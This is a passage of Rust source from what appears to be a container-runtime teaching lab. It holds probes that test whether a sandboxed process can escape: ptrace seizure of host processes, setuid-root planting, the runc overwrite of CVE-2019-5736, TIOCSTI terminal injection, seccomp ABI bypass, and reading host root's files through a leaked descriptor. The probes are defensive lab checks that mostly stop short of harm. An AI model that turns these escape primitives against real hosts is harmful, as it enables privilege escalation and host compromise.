        Ok(()) => Escaped(
            "reboot(LINUX_REBOOT_CMD_CAD_OFF) succeeded: RESTART would reboot the host".into(),
        ),
        Err(libc::EINVAL) => {
            Blocked("EINVAL: in a PID namespace reboot() only acts on the container".into())
        }
        Err(e) => Blocked(format!("reboot: {}", errno_name(e))),
    }
}

/// ptrace of a host process lets the container run any code in it, as
/// that process (inject a shell into the host's PID 1). Without a PID
/// namespace of its own, the container's PID 1 is the host's init and its
/// parent is whoever started the runtime: the probe takes those of them that
/// are in other namespaces than its own, seizes the first that lets it with
/// PTRACE_SEIZE (which, unlike PTRACE_ATTACH, does not stop the tracee), and
/// lets go. In a new PID namespace both are the container's own init, and
/// no outside process is visible at all. Closed by the PID namespace, and by capabilities
/// (CAP_SYS_PTRACE, and the rule that a tracer's capabilities must cover
/// its tracee's).
fn ptrace() -> Outcome {
    const KINDS: [&str; 5] = ["pid", "mnt", "uts", "ipc", "net"];
    let ns_of = |pid: &str| -> Option<Vec<std::path::PathBuf>> {
        KINDS
            .iter()
            .map(|k| std::fs::read_link(format!("/proc/{pid}/ns/{k}")).ok())
            .collect()
    };
    let own = ns_of("self");
    // SAFETY: getppid cannot fail.
    let ppid = unsafe { libc::getppid() };
    let mut why = Vec::new();
    for pid in [1, ppid] {
        if pid <= 0 || pid as u32 == std::process::id() {
            continue;
        }
        // Outside means in some other namespace. A process whose links we
        // may not read (the ptrace access check again) cannot be placed.
        match ns_of(&pid.to_string()) {
            Some(ns) if Some(&ns) != own.as_ref() => {}
            _ => continue,
        }
        let comm = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
        let comm = comm.trim();
        // SAFETY: PTRACE_SEIZE takes integers only.
        let rc = unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) };
        match errno_of(rc) {
            Ok(_) => {
                // SAFETY: as above; if the tracee is not stopped this fails,
                // and our exit detaches it anyway.
                unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0) };
                return Escaped(format!(
                    "PTRACE_SEIZE of PID {pid} ({comm}), outside the container, succeeded"
                ));
            }
            Err(e) => why.push(format!(
                "PTRACE_SEIZE of PID {pid} ({comm}): {}",
                errno_name(e)
            )),
        }
    }
    if why.is_empty() {
        Blocked("no process outside the container is visible (PID namespace)".into())
    } else {
        Blocked(why.join("; "))
    }
}

/// A directory on a mount without nosuid where the probe may write.
fn suid_dir() -> Option<String> {
    let exe_dir = std::fs::read_link("/proc/self/exe")
        .ok()
        .and_then(|p| p.parent().map(|d| d.display().to_string()));
    ["/tmp".to_owned()].into_iter().chain(exe_dir).find(|d| {
        let Ok(c) = CString::new(d.as_bytes()) else {
            return false;
        };
        matches!(flags_of(&c), Ok(f) if f & (libc::MS_NOSUID | libc::MS_RDONLY) == 0)
    })
}

/// A process that gave up root gets it back by running a setuid-root
/// binary (every privilege escalation through a setuid helper). The probe
/// copies itself setuid-root into /tmp, forks a child that drops to uid and
/// gid 65534 and executes the copy, which prints its effective uid.
/// Closed by no_new_privs (exec then ignores the setuid bit) or a nosuid
/// mount.
fn setuid() -> Result<Outcome, String> {
    let dir = suid_dir().ok_or("no writable directory without nosuid")?;
    let copy = format!("{dir}/.probe-suid-{}", std::process::id());
    std::fs::copy("/proc/self/exe", &copy).map_err(|e| format!("copy to {copy}: {e}"))?;
    let c_copy = cstr(&copy);
    let result = (|| {
        // SAFETY: c_copy is NUL-terminated.
        ok_or_errno(unsafe { libc::chown(c_copy.as_ptr(), 0, 0) })
            .map_err(|e| format!("chown: {}", errno_name(e)))?;
        // SAFETY: as above.
        ok_or_errno(unsafe { libc::chmod(c_copy.as_ptr(), 0o4755) })
            .map_err(|e| format!("chmod 4755: {}", errno_name(e)))?;
        run_as_nobody(&c_copy)
    })();
    let _ = std::fs::remove_file(&copy);
    let out = result?;
    Ok(match out.trim().parse::<u32>() {
        Ok(0) => Escaped("after setuid(65534), exec of a setuid-root copy gave euid 0".into()),
        Ok(n) => Blocked(format!(
            "the setuid-root copy ran with euid {n}: the setuid bit was ignored (no_new_privs)"
        )),
        Err(_) => Blocked(format!("the child said: {}", out.trim())),
    })
}

/// Where [`plant_rootfs`] leaves its copy; the lab looks for it on the
/// host, in the rootfs the container ran on, and removes it.
pub const PLANTED: &str = "/tmp/.escape-planted";

/// A container that writes into the rootfs it shares with the host (and
/// with every later container) leaves things there: here a setuid-root
/// copy of the probe, runnable by any host user who can reach the rootfs
/// directory and by every container started on it later. The probe can
/// only say that the write worked; whether it reached the host's copy of
/// the rootfs is for the lab to see from outside. Closed by giving each
/// run a writable layer of its own (chapter 8's overlay).
fn plant_rootfs() -> Result<Outcome, String> {
    let _ = std::fs::remove_file(PLANTED);
    if let Err(e) = std::fs::copy("/proc/self/exe", PLANTED) {
        return Ok(Blocked(format!("cannot write {PLANTED}: {e}")));
    }
    let c = cstr(PLANTED);
    // SAFETY: c is NUL-terminated.
    if let Err(e) = ok_or_errno(unsafe { libc::chown(c.as_ptr(), 0, 0) }) {
        return Ok(Blocked(format!("chown {PLANTED}: {}", errno_name(e))));
    }
    // SAFETY: as above.
    if let Err(e) = ok_or_errno(unsafe { libc::chmod(c.as_ptr(), 0o4755) }) {
        return Ok(Blocked(format!("chmod 4755 {PLANTED}: {}", errno_name(e))));
    }
    Ok(Escaped(format!("wrote a setuid-root copy at {PLANTED}")))
}

/// Forks; the child becomes uid/gid 65534 and runs `exe euid` with its
/// stdout into a pipe; returns what it printed.
fn run_as_nobody(exe: &CStr) -> Result<String, String> {
    let mut fds = [0; 2];
    // SAFETY: fds is writable for two ints.
    ok_or_errno(unsafe { libc::pipe2(fds.as_mut_ptr(), libc::O_CLOEXEC) })
        .map_err(|e| format!("pipe2: {}", errno_name(e)))?;
    let argv = [exe.as_ptr(), c"euid".as_ptr(), std::ptr::null()];
    let envp = [std::ptr::null()];
    // SAFETY: the child only makes async-signal-safe calls before exec or _exit.
    let pid = unsafe { libc::fork() };
    if pid < 0 {
        return Err(format!("fork: {}", errno_name(last_errno())));
    }
    if pid == 0 {
        // SAFETY: async-signal-safe calls on valid arguments; the child ends
        // in execve or _exit.
        unsafe {
            libc::dup2(fds[1], 1);
            if libc::setgroups(0, std::ptr::null()) != 0
                || libc::setgid(65534) != 0
                || libc::setuid(65534) != 0
            {
                libc::write(1, c"setuid(65534) failed".as_ptr().cast(), 20);
                libc::_exit(1);
            }
            libc::execve(exe.as_ptr(), argv.as_ptr(), envp.as_ptr());
            libc::write(1, c"execve failed".as_ptr().cast(), 13);
            libc::_exit(1);
        }
    }
    // SAFETY: the write end is ours; the child holds its own copy.
    unsafe { libc::close(fds[1]) };
    // SAFETY: fds[0] is an open fd that we own from here on.
    let mut reader = unsafe { <std::fs::File as std::os::fd::FromRawFd>::from_raw_fd(fds[0]) };
    let mut out = String::new();
    let _ = reader.read_to_string(&mut out);
    let mut status = 0;
    // SAFETY: pid is our child; status is writable.
    unsafe { libc::waitpid(pid, &mut status, 0) };
    Ok(out)
}

/// CVE-2019-5736: runc's `exec` ran inside the container as /proc/self/exe
/// of the host's runc; the container opened /proc/PID/exe of that process
/// and, once runc had exited (ETXTBSY until then), wrote its own binary over
/// the host's runc, which root ran next. The probe opens /proc/1/exe (the
/// container's init: in these steps a fork of the runtime binary, on step01
/// the host's init) and the parent's exe for writing, without O_TRUNC, and
/// closes it without writing. ETXTBSY counts as escaped: the kernel checks
/// it after every permission check has passed, and it lasts only while the
/// binary runs. EACCES is the ptrace access check on the link: the tracer's
/// capabilities must cover the target's, which a container command with
/// fewer capabilities than its init fails. Closed by capabilities.
fn runtime_exe() -> Outcome {
    // SAFETY: getppid cannot fail.
    let ppid = unsafe { libc::getppid() };
    let mut why = Vec::new();
    let mut targets = vec![1];
    if ppid > 1 {
        targets.push(ppid);
    }
    for pid in targets {
        let link = format!("/proc/{pid}/exe");
        let target = std::fs::read_link(&link)
            .map(|t| t.display().to_string())
            .unwrap_or_else(|_| "?".into());
        let c_link = cstr(&link);
        // SAFETY: c_link is NUL-terminated; no O_TRUNC: opening changes nothing.
        let fd = unsafe { libc::open(c_link.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
        if fd >= 0 {
            // SAFETY: fd is ours; nothing was written.
            unsafe { libc::close(fd) };
            return Escaped(format!(
                "{link} ({target}) opened for writing (closed unwritten)"
            ));
        }
        match last_errno() {
            libc::ETXTBSY => {
                return Escaped(format!(
                    "{link} ({target}): ETXTBSY only because it is running; every permission check passed"
                ));
            }
            e => why.push(format!("{link}: {}", errno_name(e))),
        }
    }
    Blocked(why.join("; "))
}

// ---------------------------------------------------------------------------
// Chapter 6's rows: the terminal, PID 1, masked paths, the environment,
// cgroups, devices; and three that stay open until the next chapters.

/// `kill(0, SIGSTOP)` stops every process of our process group, and a
/// session's hang-up reaches all of it: a container in the session and
/// process group of the shell that started the runtime stops or hangs up
/// the runtime, `sudo` and `cargo` with it. In a PID namespace, a leader
/// outside shows as 0. The probe sends nothing: it reads its session and
/// process group (getsid, getpgrp) and whether their leaders are in its
/// UTS namespace, i.e. in the container. Closed by setsid (step06).
fn session() -> Outcome {
    // SAFETY: getsid(0) and getpgrp() only read our own ids.
    let (sid, pgrp) = unsafe { (libc::getsid(0), libc::getpgrp()) };
    let own = std::fs::read_link("/proc/self/ns/uts").ok();
    for (what, id) in [("session", sid), ("process group", pgrp)] {
        if id == 0 {
            return Escaped(format!(
                "the {what}'s leader is outside the PID namespace (getsid/getpgrp = 0)"
            ));
        }
        let leader = std::fs::read_link(format!("/proc/{id}/ns/uts")).ok();
        if leader.is_none() || leader != own {
            return Escaped(format!(
                "the {what} {id} is led by a process outside the container"
            ));
        }
    }
    Blocked(format!(
        "session {sid} and process group {pgrp} are the container's own"
    ))
}

/// TIOCSTI pushes bytes into a terminal's input queue as if typed; a
/// container holding the user's terminal types commands into the user's
/// shell, which runs them once the container has exited. The lab gives the
/// runtime a terminal of its own (never a person's) and passes its device
/// number; the probe looks for a descriptor on that terminal and, if it has
/// one, injects a single space and says whether the kernel took it (Linux
/// 6.2+ with dev.tty.legacy_tiocsti=0 refuses without CAP_SYS_ADMIN; the
/// terminal is the host's all the same). Closed by a pseudo-terminal of the
/// container's own, or pipes, on 0-2 (step06).
fn host_tty(rdev: Option<&str>) -> Result<Outcome, String> {
    // Two devpts instances both have a /dev/pts/0 with the same device
    // number: the terminal is (the instance's st_dev, st_rdev).
    let (dev, rdev): (u64, u64) = rdev
        .and_then(|r| {
            let (d, r) = r.split_once(':')?;
            Some((d.parse().ok()?, r.parse().ok()?))
        })
        .ok_or("host-tty needs host-tty=DEV:RDEV: run it from `cargo xtask escape`")?;
    let fds = open_fds().map_err(|e| format!("/proc/self/fd: {e}"))?;
    for fd in fds {
        // SAFETY: an all-zero stat is a valid out-buffer.
        let mut st: libc::stat = unsafe { std::mem::zeroed() };
        // SAFETY: st is writable; a closed fd only gives EBADF.
        if unsafe { libc::fstat(fd, &mut st) } != 0 || st.st_rdev != rdev || st.st_dev != dev {
            continue;
        }
        if st.st_mode & libc::S_IFMT != libc::S_IFCHR {
            continue;
        }
        let c: libc::c_char = b' ' as libc::c_char;
        // SAFETY: TIOCSTI reads one byte from the pointer, which is valid.
        let rc = unsafe { libc::ioctl(fd, libc::TIOCSTI, &c) };
        let sti = if rc == 0 {
            "and TIOCSTI typed into it".to_owned()
        } else {
            format!("(TIOCSTI: {})", errno_name(last_errno()))
        };
        return Ok(Escaped(format!("fd {fd} is the host's terminal {sti}")));
    }
    Ok(Blocked(
        "no descriptor is on the host's terminal".to_owned(),
    ))
}

/// One `Cap*:` line of /proc/PID/status as a mask.
fn cap_line(status: &str, key: &str) -> Option<u64> {
    let v = status
        .lines()
        .find_map(|l| l.strip_prefix(key)?.strip_prefix(':'))?;
    u64::from_str_radix(v.trim(), 16).ok()
}

/// The real attack: a command given `--cap-add SYS_PTRACE` attaches to a
/// PID 1 that kept root's capabilities and runs code in it with all of them.
/// The probe reads PID 1's status and says ESCAPED when PID 1 holds more
/// than it uses: any capability beyond CAP_KILL (what it needs to signal a
/// command that changed user), more than the command, a different bounding
/// set, or no no_new_privs while the command has it. Closed by PID 1
/// dropping its own privileges (step06).
fn pid1_privileges() -> Result<Outcome, String> {
    let ours = std::fs::read_to_string("/proc/self/status")
        .map_err(|e| format!("/proc/self/status: {e}"))?;
    let theirs = match std::fs::read_to_string("/proc/1/status") {
        Ok(t) => t,
        Err(e) => return Ok(Blocked(format!("/proc/1/status: {e}"))),
    };
    let get = |s: &str, k: &str| cap_line(s, k).unwrap_or(0);
    let nnp = |s: &str| {
        s.lines()
            .find_map(|l| l.strip_prefix("NoNewPrivs:"))
            .map(|v| v.trim() == "1")
            .unwrap_or(false)
    };
    const KILL: u64 = 1 << 5;
    let prm = get(&theirs, "CapPrm");
    let mut why = Vec::new();
    if prm & !KILL != 0 {
        why.push(format!("PID 1 holds CapPrm {prm:016x}, more than CAP_KILL"));
    }
    if prm & !get(&ours, "CapPrm") != 0 {
        why.push("PID 1 holds capabilities the command lacks".to_owned());
    }
    if get(&theirs, "CapBnd") != get(&ours, "CapBnd") {
        why.push(format!(
            "PID 1's bounding set {:016x} is not the command's {:016x}",
            get(&theirs, "CapBnd"),
            get(&ours, "CapBnd")
        ));
    }
    if nnp(&ours) && !nnp(&theirs) {
        why.push("PID 1 has no no_new_privs".to_owned());
    }
    Ok(if why.is_empty() {
        Blocked(format!(
            "PID 1 holds CapPrm {prm:016x}, its bounding set is the command's, no_new_privs {}",
            nnp(&theirs) as u8
        ))
    } else {
        Escaped(why.join("; "))
    })
}

/// /proc/keys, /proc/timer_list, /proc/sched_debug describe the whole
/// machine: keys, every timer with the PID and name of its owner; /sys/firmware
/// holds the ACPI tables and boot memory map. Reading them leaks the host;
/// /proc/sysrq-trigger-style writes are chapter 6's read-only paths. The
/// probe reads a few bytes of each (never /proc/kcore) and lists
/// /sys/firmware. Closed by masking them (step06): /dev/null over files, an
/// empty read-only tmpfs over directories.
fn masked_paths() -> Outcome {
    let mut open = Vec::new();
    for path in [
        "/proc/keys",
        "/proc/timer_list",
        "/proc/sched_debug",
        "/proc/latency_stats",
    ] {
        let mut buf = [0u8; 64];
        if let Ok(mut f) = std::fs::File::open(path) {
            if matches!(f.read(&mut buf), Ok(n) if n > 0) {
                open.push(path.to_owned());
            }
        }
    }
    for dir in ["/sys/firmware", "/proc/acpi", "/proc/scsi"] {
        if std::fs::read_dir(dir).is_ok_and(|mut d| d.next().is_some()) {
            open.push(dir.to_owned());
        }
    }
    if open.is_empty() {
        Blocked("every masked path reads empty or is not there".into())
    } else {
        Escaped(format!("readable: {}", open.join(", ")))
    }
}

/// /proc/self/cgroup without a cgroup namespace names the host's cgroup
/// tree (the host's layout, `ws-<PID of the runtime>`), and a cgroup
/// filesystem mounted inside shows the host's whole tree. The lab passes
/// the host's cgroup namespace; the probe says ESCAPED when it is in it, or
/// when any line of /proc/self/cgroup is not its namespace's root `/`.
/// Closed by a cgroup namespace (step05).
fn cgroup_path(host_ns: Option<&str>) -> Result<Outcome, String> {
    let host_ns: u64 = host_ns
        .and_then(|r| r.parse().ok())
        .ok_or("cgroup-path needs host-cgroupns=INODE: run it from `cargo xtask escape`")?;
    let ours = std::fs::read_link("/proc/self/ns/cgroup")
        .ok()
        .and_then(|t| crate::parse_ns_link(&t.to_string_lossy()));
    let text = std::fs::read_to_string("/proc/self/cgroup")
        .map_err(|e| format!("/proc/self/cgroup: {e}"))?;
    if ours == Some(host_ns) {
        let first = text.lines().find(|l| !l.ends_with(":/")).unwrap_or("");
        return Ok(Escaped(format!("in the host's cgroup namespace: {first}")));
    }
    match text.lines().find(|l| !l.ends_with(":/")) {
        Some(line) => Ok(Escaped(format!("/proc/self/cgroup shows {line}"))),
        None => Ok(Blocked(format!(
            "a cgroup namespace of its own: {}",
            text.lines().next().unwrap_or("")
        ))),
    }
}

/// With CAP_SYS_ADMIN (the lab runs step06 with `--cap-add SYS_ADMIN` for
/// this one) a container mounts a tmpfs without `nodev`, makes a device node
/// there, and opens it: nodev mounts are no help then. The node is the
/// kernel log, c 1:11, opened read-only and closed unread. Closed by the
/// device cgroup (step06): the open fails with EPERM.
fn device_node() -> Result<Outcome, String> {
    let dir = Scratch::new("devnode")?;
    if let Err(e) = mount("probe", &dir.c(), Some("tmpfs"), 0, "size=16k") {
        return Ok(Blocked(format!("mount -t tmpfs -o dev: {}", errno_name(e))));
    }
    let node = cstr(format!("{}/kmsg", dir.0));
    // SAFETY: node is NUL-terminated; makedev only computes a number.
    let made = ok_or_errno(unsafe {
        libc::mknod(node.as_ptr(), libc::S_IFCHR | 0o600, libc::makedev(1, 11))
    });
    let outcome = match made {
        Err(e) => Blocked(format!("mknod c 1 11: {}", errno_name(e))),
        Ok(()) => {
            // SAFETY: node is NUL-terminated.
            let fd = unsafe {
                libc::open(
                    node.as_ptr(),
                    libc::O_RDONLY | libc::O_NONBLOCK | libc::O_CLOEXEC,
                )
            };
            if fd >= 0 {
                // SAFETY: fd is ours.
                unsafe { libc::close(fd) };
                Escaped("mknod c 1 11 on a dev tmpfs opened: the host's kernel log".into())
            } else {
                Blocked(format!("open of c 1:11: {}", errno_name(last_errno())))
            }
        }
    };
    // SAFETY: node is NUL-terminated.
    unsafe { libc::unlink(node.as_ptr()) };
    umount(&dir.c());
    Ok(outcome)
}

/// Keys are not namespaced: uid 0 in a container without a user namespace
/// has host root's user keyring (`_uid.0`), where host root's programs keep
/// secrets. The probe asks for the keyring's id and description and touches
/// nothing. Stays open in step06 (Docker's seccomp profile refuses keyctl:
/// step07).
fn keyring() -> Outcome {
    const KEYCTL_GET_KEYRING_ID: libc::c_long = 0;
    const KEYCTL_DESCRIBE: libc::c_long = 6;
    const KEY_SPEC_USER_KEYRING: libc::c_long = -4;
    // SAFETY: keyctl with integer arguments only reads our credentials.
    let id = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            KEYCTL_GET_KEYRING_ID,
            KEY_SPEC_USER_KEYRING,
            0,
        )
    };
    if id < 0 {
        return Blocked(format!(
            "keyctl(GET_KEYRING_ID, USER): {}",
            errno_name(last_errno())
        ));
    }
    let mut buf = [0u8; 256];
    // SAFETY: buf is writable for the length passed.
    let n = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            KEYCTL_DESCRIBE,
            id,
            buf.as_mut_ptr(),
            buf.len(),
        )
    };
    if n < 0 {
        return Blocked(format!(
            "keyctl(DESCRIBE, {id}): {}",
            errno_name(last_errno())
        ));
    }
    let text = CStr::from_bytes_until_nul(&buf)
        .map(|s| s.to_string_lossy().into_owned())
        .unwrap_or_default();
    Escaped(format!("user keyring {id}: {text}"))
}

/// A user namespace gives its creator every capability over the new
/// namespaces it makes: new mount, network and user namespaces are reach
/// into kernel code that root alone used to reach (many kernel exploits
/// start here). A child unshares one and exits. Stays open in step06
/// (Docker's seccomp profile refuses it without CAP_SYS_ADMIN: step07).
fn userns() -> Result<Outcome, String> {
    // SAFETY: the child only calls unshare and _exit.
    let pid = unsafe { libc::fork() };
    if pid < 0 {
        return Err(format!("fork: {}", errno_name(last_errno())));
    }
    if pid == 0 {
        // SAFETY: unshare takes an integer; _exit ends the child.
        unsafe {
            let rc = libc::unshare(libc::CLONE_NEWUSER);
            libc::_exit(if rc == 0 {
                0
            } else {
                *libc::__errno_location()
            });
        }
    }
    let mut status = 0;
    // SAFETY: pid is our child; status is writable.
    unsafe { libc::waitpid(pid, &mut status, 0) };
    let code = libc::WEXITSTATUS(status);
    Ok(if code == 0 {
        Escaped("unshare(CLONE_NEWUSER) succeeded".into())
    } else {
        Blocked(format!("unshare(CLONE_NEWUSER): {}", errno_name(code)))
    })
}

/// io_uring submits reads, writes, opens and more through a shared ring,
/// past anything that filters system calls one by one, and it has been a
/// steady source of kernel bugs. The probe sets up a one-entry ring and
/// closes it. Stays open in step06 (Docker's seccomp profile refuses
/// io_uring_setup: step07).
fn io_uring() -> Outcome {
    let mut params = [0u8; 120]; // struct io_uring_params, zeroed
    // SAFETY: params is writable for its size, which is the struct's.
    let fd = unsafe { libc::syscall(libc::SYS_io_uring_setup, 1, params.as_mut_ptr()) };
    if fd < 0 {
        return Blocked(format!("io_uring_setup: {}", errno_name(last_errno())));
    }
    // SAFETY: fd is ours.
    unsafe { libc::close(fd as i32) };
    Escaped("io_uring_setup(1) gave a ring".into())
}

/// `add_key` reaches the same key store as keyctl: keys of uid 0 are host
/// root's. The probe adds a key to its own *process* keyring, which the
/// kernel makes for it and drops when it exits: nothing outlives the probe.
fn add_key() -> Outcome {
    const KEY_SPEC_PROCESS_KEYRING: libc::c_long = -2;
    let (kind, desc, payload) = (c"user", c"escape-lab-probe", b"x");
    // SAFETY: the strings are NUL-terminated, the payload is readable for its length.
    let id = unsafe {
        libc::syscall(
            libc::SYS_add_key,
            kind.as_ptr(),
            desc.as_ptr(),
            payload.as_ptr(),
            payload.len(),
            KEY_SPEC_PROCESS_KEYRING,
        )
    };
    if id < 0 {
        Blocked(format!("add_key: {}", errno_name(last_errno())))
    } else {
        Escaped(format!(
            "add_key gave key {id} (in the probe's own process keyring)"
        ))
    }
}

/// userfaultfd lets a process stall the kernel in the middle of copying
/// from user memory, which turned many races into reliable exploits. Since
/// 5.11 anyone may create one for user-mode faults (UFFD_USER_MODE_ONLY)
/// whatever `vm.unprivileged_userfaultfd` says. The probe creates one and
/// closes it.
fn userfaultfd() -> Outcome {
    const UFFD_USER_MODE_ONLY: libc::c_long = 1;
    let flags = libc::O_CLOEXEC as libc::c_long | UFFD_USER_MODE_ONLY;
    // SAFETY: userfaultfd takes flags only.
    let fd = unsafe { libc::syscall(libc::SYS_userfaultfd, flags) };
    if fd < 0 {
        return Blocked(format!("userfaultfd: {}", errno_name(last_errno())));
    }
    // SAFETY: fd is ours.
    unsafe { libc::close(fd as i32) };
    Escaped("userfaultfd(UFFD_USER_MODE_ONLY) gave an fd".into())
}

/// Whether syscall `nr` gets as far as the kernel's own code for it, asked
/// without running it. A child stacks a seccomp filter of its own that
/// answers `nr` with SECCOMP_RET_TRACE, then makes the call (`make`). With
/// no tracer attached, TRACE fails the call with ENOSYS and never runs it.
/// When filters are stacked the kernel takes the strictest answer, and
/// ERRNO is stricter than TRACE: so ENOSYS means no filter above ours
/// stopped the call (it reaches the kernel's checks and code: open), and
/// any other errno means one did (blocked). Capabilities play no part, so
/// this tells a seccomp filter from a capability check, which both say
/// EPERM.
fn reaches(
    name: &str,
    nr: libc::c_long,
    make: impl FnOnce() -> libc::c_long,
) -> Result<Outcome, String> {
    const SECCOMP_SET_MODE_FILTER: libc::c_long = 1;
    let k = |v: i64| v as u32;
    let filter = [
        libc::sock_filter {
            code: 0x20,
            jt: 0,
            jf: 0,
            k: 0,
        }, // ld [0]: nr
        libc::sock_filter {
            code: 0x15,
            jt: 0,
            jf: 1,
            k: k(nr),
        }, // jeq nr
        libc::sock_filter {
            code: 0x06,
            jt: 0,
            jf: 0,
            k: 0x7ff0_0000,
        }, // ret TRACE
        libc::sock_filter {
            code: 0x06,
            jt: 0,
            jf: 0,
            k: 0x7fff_0000,
        }, // ret ALLOW
    ];
    let prog = libc::sock_fprog {
        len: filter.len() as u16,
        filter: filter.as_ptr().cast_mut(),
    };
    // SAFETY: the child only makes syscalls and _exits.
    let pid = unsafe { libc::fork() };
    if pid < 0 {
        return Err(format!("fork: {}", errno_name(last_errno())));
    }
    if pid == 0 {
        // SAFETY: prctl and seccomp get integers and a pointer to `prog`,
        // alive here; the call under test is made with harmless arguments.
        unsafe {
            if libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0
                || libc::syscall(libc::SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) != 0
            {
                libc::_exit(200);
            }
            let rc = make();
            libc::_exit(if rc < 0 { *libc::__errno_location() } else { 0 });
        }
    }
    let mut status = 0;
    // SAFETY: pid is our child; status is writable.
    unsafe { libc::waitpid(pid, &mut status, 0) };
    if libc::WIFSIGNALED(status) {
        return Ok(Blocked(format!(
            "{name}: killed by signal {}",
            libc::WTERMSIG(status)
        )));
    }
    Ok(match libc::WEXITSTATUS(status) {
        200 => {
            return Err("could not stack the probe's own filter (prctl or seccomp failed)".into());
        }
        libc::ENOSYS => Escaped(format!(
            "{name} reaches the kernel: no filter stops it before its own checks"
        )),
        0 => Escaped(format!("{name} ran")),
        errno => Blocked(format!(
            "{name}: {} from a seccomp filter, before the kernel's own code",
            errno_name(errno)
        )),
    })
}

/// On x86_64 a 64-bit process can still make i386 syscalls with
/// `int $0x80`, and there 20 is getpid (on the 64-bit ABI it is writev). A
/// filter that compares numbers without checking `seccomp_data.arch` lets
/// any i386 call through under the name of a 64-bit one it allows. A child
/// makes the harmless i386 getpid; being killed (SIGSYS) means the filter
/// checks the ABI.
fn other_abi() -> Result<Outcome, String> {
    #[cfg(target_arch = "x86_64")]
    {
        // SAFETY: the child only makes the i386 getpid and _exits.
        let pid = unsafe { libc::fork() };
        if pid < 0 {
            return Err(format!("fork: {}", errno_name(last_errno())));
        }
        if pid == 0 {
            let ret: i64;
            // SAFETY: i386 getpid (eax = 20) takes no arguments and touches no
            // memory; the kernel may clear r8-r11 on this path.
            unsafe {
                std::arch::asm!(
                    "int 0x80",
                    inlateout("rax") 20i64 => ret,
                    out("r8") _, out("r9") _, out("r10") _, out("r11") _,
                    options(nostack)
                );
                libc::_exit(if ret > 0 { 0 } else { 1 });
            }
        }
        let mut status = 0;
        // SAFETY: pid is our child; status is writable.
        unsafe { libc::waitpid(pid, &mut status, 0) };
        Ok(if libc::WIFSIGNALED(status) {
            let sig = libc::WTERMSIG(status);
            let why = if sig == libc::SIGSYS {
                "SIGSYS: a filter checks the ABI"
            } else {
                "a signal"
            };
            Blocked(format!("int $0x80 getpid: killed by signal {sig} ({why})"))
        } else if libc::WEXITSTATUS(status) == 0 {
            Escaped("int $0x80 getpid answered: the i386 ABI is open".into())
        } else {
            Blocked("int $0x80 getpid failed".into())
        })
    }
    #[cfg(not(target_arch = "x86_64"))]
    Ok(Blocked(
        "no second ABI is probed on this architecture".into(),
    ))
}

// ---------------------------------------------------------------------------
// Chapter 9's rows: what the container may do to host files it can reach.

/// The host directory the container holds: the first open directory
/// descriptor in which [`HOST_KEY`] exists (a `stat` through a directory
/// needs only its search permission, which the lab's 0755 directory gives
/// anyone). Err when there is none: the lab opens this hole on purpose in
/// every column, so a missing descriptor means the row tests nothing.
fn held_host_dir() -> Result<(libc::c_int, String), String> {
    let fds = open_fds().map_err(|e| format!("/proc/self/fd: {e}"))?;
    let key = cstr(HOST_KEY);
    for fd in fds.into_iter().filter(|&fd| is_dir_fd(fd)) {
        // SAFETY: an all-zero stat is a valid out-buffer.
        let mut st: libc::stat = unsafe { std::mem::zeroed() };
        // SAFETY: fd is an open directory, key NUL-terminated, st writable.
        if unsafe { libc::fstatat(fd, key.as_ptr(), &mut st, libc::AT_SYMLINK_NOFOLLOW) } == 0 {
            let target = std::fs::read_link(format!("/proc/self/fd/{fd}"))
                .map(|t| t.display().to_string())
                .unwrap_or_else(|_| "?".into());
            return Ok((fd, target));
        }
    }
    Err(format!(
        "no open directory holds {HOST_KEY}: the lab hands the host directory over as stdin; \
         without it this row tests nothing"
    ))
}

/// Who we are on the host, as far as we can tell from inside: our uid and
/// the first line of /proc/self/uid_map ("0 0 4294967295" is no user
/// namespace: uid 0 is host root).
fn who_on_host() -> String {
    // SAFETY: getuid cannot fail.
    let uid = unsafe { libc::getuid() };
    let map = std::fs::read_to_string("/proc/self/uid_map").unwrap_or_default();
    let map = map.split_whitespace().collect::<Vec<_>>().join(" ");
    format!("uid {uid}, uid_map \"{map}\"")
}

/// A container that holds a host directory (a volume, `-v /etc:/host`, or
/// a descriptor leaked into it, CVE-2024-21626) acts on the files there
/// with its own credentials, and without a user namespace container root
/// *is* host root: every file's permission bits let it in. The lab hands
/// the container a root-owned 0755 host directory as stdin, with a
/// root-owned 0600 "key" in it; the probe reads the key through the
/// descriptor (openat) and prints its first line, which the lab compares
/// with what it wrote. Closed by a user namespace (step09): container root
/// is an ordinary uid on the host, and the key is not its to read (EACCES).
fn host_keys() -> Result<Outcome, String> {
    let (fd, target) = held_host_dir()?;
    let key = cstr(HOST_KEY);
    // SAFETY: fd is an open directory and key NUL-terminated.
    let kfd = unsafe { libc::openat(fd, key.as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC) };
    if kfd < 0 {
        return Ok(Blocked(format!(
            "fd {fd} is the host's {target}, but openat({HOST_KEY}): {} as {}",
            errno_name(last_errno()),
            who_on_host()
        )));
    }
    // SAFETY: kfd is an open file that we own from here on.
    let mut file = unsafe { <std::fs::File as std::os::fd::FromRawFd>::from_raw_fd(kfd) };
    let mut text = String::new();
    if let Err(e) = file.read_to_string(&mut text) {
        return Ok(Blocked(format!("read {target}/{HOST_KEY}: {e}")));
    }
    Ok(Escaped(format!(
        "read host root's {target}/{HOST_KEY} through fd {fd} as {}: {:?}",
        who_on_host(),
        text.lines().next().unwrap_or("")
    )))
}

/// The same hole, for writing: container root creates a file in a
/// directory only host root may write to (root-owned, 0755), where a real
/// attack would drop a cron job, an authorized key or a systemd unit. The
/// probe creates [`HOST_WRITTEN`] there through the descriptor and leaves
/// it; whether it reached the host (and as whom) is for the lab to see from
/// the host, which then removes it. Closed by a user namespace (step09):
/// EACCES, the directory is host root's and container root is not.
fn host_write() -> Result<Outcome, String> {
    let (fd, target) = held_host_dir()?;
    let name = cstr(HOST_WRITTEN);
    // SAFETY: fd is an open directory and name NUL-terminated.
    let wfd = unsafe {
        libc::openat(
            fd,
            name.as_ptr(),
            libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL | libc::O_CLOEXEC,
            0o644,
        )
    };
    if wfd < 0 {
